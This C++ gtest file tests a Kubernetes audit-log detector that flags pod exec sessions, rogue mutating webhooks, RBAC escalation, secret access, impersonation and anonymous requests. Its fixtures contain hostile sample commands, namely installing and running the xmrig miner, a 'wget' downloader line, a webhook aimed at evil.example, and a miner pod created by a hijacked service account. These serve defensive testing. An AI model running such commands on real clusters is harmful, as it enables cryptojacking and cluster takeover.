// Exec and attach (S6), webhooks (S4), RBAC, tokens, secrets, anonymous
// access (S7) and the exec-then-write incident.
#include <sstream>
#include <thread>

#include <gtest/gtest.h>

#include "audit/exec_command.h"
#include "audit_test_util.h"

namespace kg::testing {
namespace {

using rules::Severity;

Ev exec_event(const std::string& query, const std::string& stage = "ResponseComplete") {
  Ev ev;
  ev.subresource = "exec";
  ev.uri = "/api/v1/namespaces/shop/pods/web/exec?" + query;
  ev.stage = stage;
  ev.id = "exec-1";
  ev.code = 400;  // the pod has no node: the API server could not reach it
  return ev;
}

TEST(AuditExec, CommandFromTheUriSetsTheSeverity) {
  auto d = make_detector();
  auto shell = run(d, exec_event("command=sh&container=app&stdin=true&tty=true"));
  ASSERT_EQ(of_rule(shell, "KG-AUD-007").size(), 1u);
  EXPECT_EQ(shell[0].severity, Severity::High);
  EXPECT_EQ(evidence(shell[0], "container"), "app");
  EXPECT_NE(evidence(shell[0], "outcome").find("authorised"), std::string::npos);

  Ev pkg = exec_event("command=sh&command=-c&command=apt-get+install+-y+xmrig&container=app");
  pkg.id = "exec-2";
  auto miner = run(d, pkg);
  ASSERT_EQ(miner.size(), 1u);
  EXPECT_EQ(miner[0].severity, Severity::Critical);
  EXPECT_EQ(evidence(miner[0], "command"), "sh -c apt-get install -y xmrig");

  Ev ls = exec_event("command=ls&command=%2Ftmp");
  ls.id = "exec-3";
  auto plain = run(d, ls);
  ASSERT_EQ(plain.size(), 1u);
  EXPECT_EQ(plain[0].severity, Severity::Medium);
  EXPECT_EQ(evidence(plain[0], "command"), "ls /tmp");

  Ev denied = exec_event("command=bash");
  denied.id = "exec-4";
  denied.code = 403;
  denied.decision = "forbid";
  auto d4 = run(d, denied);
  ASSERT_EQ(d4.size(), 1u);
  EXPECT_EQ(d4[0].severity, Severity::Low);
}

TEST(AuditExec, OneAlertPerSessionAcrossStages) {
  auto d = make_detector();
  EXPECT_EQ(run(d, exec_event("command=bash", "ResponseStarted")).size(), 1u);
  EXPECT_TRUE(run(d, exec_event("command=bash", "ResponseComplete")).empty());
  // kubectl's WebSocket try (GET) and SPDY fallback (POST) of one exec: one alert.
  Ev retry = exec_event("command=bash");
  retry.id = "exec-retry";
  retry.verb = "get";
  EXPECT_TRUE(run(d, retry).empty());
  EXPECT_TRUE(run(d, exec_event("command=bash", "RequestReceived")).empty());
}

TEST(AuditExec, ClassifiesWordsInsideShellScripts) {
  using audit::classify;
  using audit::CommandClass;
  EXPECT_EQ(classify({"/bin/sh", "-c", "cd /tmp; wget http://x/y"}), CommandClass::Downloader);
  EXPECT_EQ(classify({"bash"}), CommandClass::Shell);
  EXPECT_EQ(classify({"/usr/local/bin/xmrig", "-o", "stratum+tcp://pool:3333"}), CommandClass::Miner);
  EXPECT_EQ(classify({"pip", "install", "x"}), CommandClass::PackageManager);
  EXPECT_EQ(classify({"date"}), CommandClass::Other);
}

TEST(AuditCorrelation, ExecThenWritesByThePodServiceAccountIsOneIncident) {
  auto d = make_detector();
  Ev create;
  create.request = create.response = pod(container("app", "nginx"), R"(,"serviceAccountName":"builder")");
  run(d, create);
  Ev exec = exec_event("command=sh");
  exec.time = "2026-01-01T10:02:00Z";
  run(d, exec);
  Ev write;
  write.verb = "create";
  write.resource = "pods";
  write.name = "evil";
  write.id = "write-1";
  write.time = "2026-01-01T10:05:00Z";
  write.user = "system:serviceaccount:shop:builder";
  write.user_agent = "curl/8.0";
  write.request = write.response = pod(container("x", "xmrig/xmrig"), "", "evil");
  auto alerts = run(d, write);
  auto incident = of_rule(alerts, "KG-AUD-018");
  ASSERT_EQ(incident.size(), 1u);
  EXPECT_EQ(incident[0]->severity, Severity::Critical);
  EXPECT_EQ(incident[0]->related_audit_ids, (std::vector<std::string>{"exec-1", "write-1"}));
  EXPECT_EQ(evidence(*incident[0], "podServiceAccount"), "builder");
  // One incident per exec, not one per write.
  write.id = "write-2";
  EXPECT_TRUE(of_rule(run(d, write), "KG-AUD-018").empty());
}

TEST(AuditCorrelation, PodNotInTheLogMatchesAnyAccountOfItsNamespaceAndSaysSo) {
  auto d = make_detector();
  run(d, exec_event("command=sh"));  // the pod's create is not in the log
  Ev write;
  write.verb = "patch";
  write.resource = "deployments";
  write.group = "apps";
  write.id = "write-x";
  write.time = "2026-01-01T10:03:00Z";
  write.user = "system:serviceaccount:shop:ci";
  write.request = R"({"spec":{"replicas":2}})";
  auto alerts = run(d, write);
  auto incident = of_rule(alerts, "KG-AUD-018");
  ASSERT_EQ(incident.size(), 1u);
  EXPECT_EQ(evidence(*incident[0], "podServiceAccount"),
            "not in the log: matched any service account of the namespace");
  // Another namespace's service account is never matched.
  Ev other = write;
  other.ns = "billing";
  other.user = "system:serviceaccount:billing:ci";
  run(d, exec_event("command=bash"));
  EXPECT_TRUE(of_rule(run(d, other), "KG-AUD-018").empty());
}

TEST(AuditCorrelation, NoIncidentOutsideTheWindowOrForAnotherAccount) {
  auto d = make_detector();
  Ev create;
  create.request = create.response = pod(container("app", "nginx"), R"(,"serviceAccountName":"builder")");
  run(d, create);
  run(d, exec_event("command=sh"));
  Ev other;
  other.name = "x";
  other.time = "2026-01-01T10:01:00Z";
  other.user = "system:serviceaccount:shop:someone-else";
  other.request = other.response = pod(container("x", "nginx"), "", "x");
  EXPECT_TRUE(of_rule(run(d, other), "KG-AUD-018").empty());
  Ev late = other;
  late.user = "system:serviceaccount:shop:builder";
  late.time = "2026-01-01T11:00:00Z";  // an hour later: beyond the 10-minute window
  EXPECT_TRUE(of_rule(run(d, late), "KG-AUD-018").empty());
}

std::string webhook_config(const std::string& name, const std::string& client, const std::string& failure) {
  return fmt::format(
      R"({{"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{{"name":"cfg"}},"webhooks":[{{"name":"{}","clientConfig":{},"rules":[{{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}}],"failurePolicy":"{}","sideEffects":"None","admissionReviewVersions":["v1"]}}]}})",
      name, client, failure);
}

Ev webhook_event(const std::string& body) {
  Ev ev;
  ev.resource = "mutatingwebhookconfigurations";
  ev.group = "admissionregistration.k8s.io";
  ev.ns = "";
  ev.name = "cfg";
  ev.request = ev.response = body;
  return ev;
}

TEST(AuditWebhooks, RogueMutatingWebhookIsCriticalAndApprovedInjectorIsInfo) {
  auto d = make_detector();
  auto rogue = run(
      d, webhook_event(webhook_config("inject.evil.example", R"({"url":"https://evil.example/mutate"})", "Ignore")));
  ASSERT_EQ(of_rule(rogue, "KG-AUD-009").size(), 1u);
  EXPECT_EQ(rogue[0].severity, Severity::Critical);
  EXPECT_EQ(evidence(rogue[0], "target"), "URL https://evil.example/mutate");

  auto unknown =
      run(d, webhook_event(webhook_config("x.example.com", R"({"service":{"namespace":"tools","name":"x"}})", "Fail")));
  ASSERT_EQ(unknown.size(), 1u);
  EXPECT_EQ(unknown[0].severity, Severity::High);

  auto istio =
      run(d, webhook_event(webhook_config("sidecar-injector.istio.io",
                                          R"({"service":{"namespace":"istio-system","name":"istiod"}})", "Fail")));
  ASSERT_EQ(istio.size(), 1u);
  EXPECT_EQ(istio[0].severity, Severity::Info);

  auto fake = run(d, webhook_event(webhook_config("sidecar-injector.istio.io",
                                                  R"({"service":{"namespace":"default","name":"istiod"}})", "Fail")));
  ASSERT_EQ(fake.size(), 1u);
  EXPECT_EQ(fake[0].severity, Severity::Critical);
}

Ev rbac_event(const std::string& resource, const std::string& body) {
  Ev ev;
  ev.resource = resource;
  ev.group = "rbac.authorization.k8s.io";
  ev.ns = "";
  ev.name = "x";
  ev.request = ev.response = body;
  return ev;
}

TEST(AuditAccess, RbacEscalation) {
  auto d = make_detector();
  auto binding = run(
      d,
      rbac_event(
          "clusterrolebindings",
          R"({"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"x"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"ServiceAccount","name":"builder","namespace":"shop"}]})"));
  ASSERT_EQ(of_rule(binding, "KG-AUD-010").size(), 1u);
  EXPECT_EQ(evidence(binding[0], "subjects"), "ServiceAccount shop/builder");
  auto wildcard = run(
      d,
      rbac_event(
          "clusterroles",
          R"({"kind":"ClusterRole","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"x"},"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]},{"apiGroups":[""],"resources":["users"],"verbs":["impersonate"]}]})"));
  EXPECT_EQ(of_rule(wildcard, "KG-AUD-011").size(), 1u);
  ASSERT_EQ(of_rule(wildcard, "KG-AUD-012").size(), 1u);
  EXPECT_EQ(evidence(*of_rule(wildcard, "KG-AUD-012")[0], "verb"), "impersonate");
  // The API server writing its bootstrap roles is not an escalation.
  Ev boot = rbac_event(
      "clusterroles",
      R"({"kind":"ClusterRole","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"cluster-admin"},"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]})");
  boot.user = "system:apiserver";
  EXPECT_TRUE(run(d, boot).empty());
  auto view = run(
      d,
      rbac_event(
          "rolebindings",
          R"({"kind":"RoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"x"},"roleRef":{"kind":"ClusterRole","name":"view"},"subjects":[]})"));
  EXPECT_TRUE(view.empty());
}

TEST(AuditAccess, TokensSecretsImpersonationAnonymous) {
  auto d = make_detector();
  Ev token;
  token.resource = "serviceaccounts";
  token.subresource = "token";
  token.name = "builder";
  EXPECT_EQ(of_rule(run(d, token), "KG-AUD-014").size(), 1u);
  token.user = "system:node:worker-1";  // the kubelet does this all day
  EXPECT_TRUE(run(d, token).empty());

  Ev secret;
  secret.resource = "secrets";
  secret.verb = "list";
  secret.name = "";
  secret.level = "Metadata";
  secret.user = "system:serviceaccount:shop:builder";
  auto listed = run(d, secret);
  ASSERT_EQ(of_rule(listed, "KG-AUD-015").size(), 1u);
  EXPECT_EQ(listed[0].severity, Severity::High);
  secret.verb = "get";
  secret.name = "db";
  EXPECT_EQ(run(d, secret)[0].severity, Severity::Medium);
  secret.user = "alice";
  EXPECT_TRUE(run(d, secret).empty());

  Ev as;
  as.verb = "get";
  as.impersonated = "bob";
  EXPECT_EQ(of_rule(run(d, as), "KG-AUD-013").size(), 1u);

  Ev anon;
  anon.verb = "list";
  anon.user = "system:anonymous";
  anon.groups = {"system:unauthenticated"};
  EXPECT_EQ(of_rule(run(d, anon), "KG-AUD-016").size(), 1u);
  anon.resource = "";
  anon.uri = "/healthz";
  EXPECT_TRUE(of_rule(run(d, anon), "KG-AUD-016").empty());
  anon.uri = "/api/v1/pods";
  anon.decision = "forbid";
  anon.code = 403;
  EXPECT_TRUE(of_rule(run(d, anon), "KG-AUD-016").empty());
}

TEST(AuditDetector, ConfigurationDisablesOverridesAndExcludes) {
  engine::Config config;
  config.disabled_rules.insert("KG-AUD-014");
  config.severity_overrides["KG-AUD-013"] = Severity::Critical;
  config.excluded_namespaces = {"shop"};
  auto d = make_detector(config);
  Ev token;
  token.resource = "serviceaccounts";
  token.subresource = "token";
  auto r = d.process_json(token.json());
  EXPECT_TRUE(r.alerts.empty());  // a disabled rule reports nothing, as in a scan
  EXPECT_EQ(r.suppressed, 1u);
  Ev as;
  as.verb = "get";
  as.ns = "prod";
  as.impersonated = "bob";
  auto alerts = run(d, as);
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(alerts[0].severity, Severity::Critical);
  EXPECT_FALSE(alerts[0].suppressed);
  // In an excluded namespace: kept and marked, as a scan marks a finding there.
  as.ns = "shop";
  auto excluded = d.process_json(as.json());
  ASSERT_EQ(excluded.alerts.size(), 1u);
  EXPECT_TRUE(excluded.alerts[0].suppressed);
  EXPECT_EQ(excluded.alerts[0].suppression, "config: namespace shop excluded");
  EXPECT_EQ(excluded.suppressed, 1u);
}

TEST(AuditDetector, IgnoreAnnotationsOfACreatedObjectSuppressAsInAScan) {
  // The same policy as scan (engine::apply_policy): the object's
  // kubeguard.io/ignore annotation marks the findings it names.
  auto d = make_detector();
  Ev ev;
  ev.code = 201;
  ev.request = ev.response =
      R"({"kind":"Pod","apiVersion":"v1","metadata":{"name":"web","namespace":"shop","annotations":{"kubeguard.io/ignore":"KG-POD-001,KG-AUD-017","kubeguard.io/ignore-reason":"lab"}},"spec":{"containers":[{"name":"app","image":"nginx:1.27","securityContext":{"privileged":true}}]}})";
  auto alerts = run(d, ev);
  auto privileged = of_rule(alerts, "KG-POD-001");
  ASSERT_EQ(privileged.size(), 1u);
  EXPECT_TRUE(privileged[0]->suppressed);
  EXPECT_EQ(privileged[0]->suppression, "annotation: lab");
  // An update cannot excuse itself: whoever writes the object writes the annotation.
  Ev patch = ev;
  patch.verb = "update";
  patch.name = "web";
  patch.id = "id-2";
  // Keep the alerts alive: of_rule returns pointers into them.
  auto update_alerts = run(d, patch);
  auto updated = of_rule(update_alerts, "KG-POD-001");
  ASSERT_EQ(updated.size(), 1u);
  EXPECT_FALSE(updated[0]->suppressed);
}

TEST(AuditDetector, SafeFromSeveralThreads) {
  auto d = make_detector();
  constexpr int kThreads = 4;
  constexpr int kEach = 200;
  std::vector<std::thread> threads;
  std::vector<size_t> counts(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < kEach; ++i) {
        Ev ev = exec_event("command=bash");
        ev.id = fmt::format("t{}-{}", t, i);
        ev.name = fmt::format("p{}-{}", t, i);
        std::string list =
            fmt::format(R"({{"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":[{}]}})", ev.json());
        counts[t] += d.process_json(list).alerts.size();
      }
    });
  }
  for (auto& th : threads) th.join();
  for (int t = 0; t < kThreads; ++t) EXPECT_EQ(counts[t], static_cast<size_t>(kEach));
}

TEST(AuditDetector, StateIsBounded) {
  engine::Config config;
  audit::DetectorOptions options;
  options.max_tracked_objects = 50;
  audit::Detector d(catalog(), config, options);
  for (int i = 0; i < 500; ++i) {
    Ev ev;
    ev.name = fmt::format("p{}", i);
    ev.request = ev.response = pod(container("app", "nginx"), "", ev.name);
    d.process_json(ev.json());
  }
  EXPECT_EQ(d.tracked_objects(), 50u);
}

}  // namespace
}  // namespace kg::testing
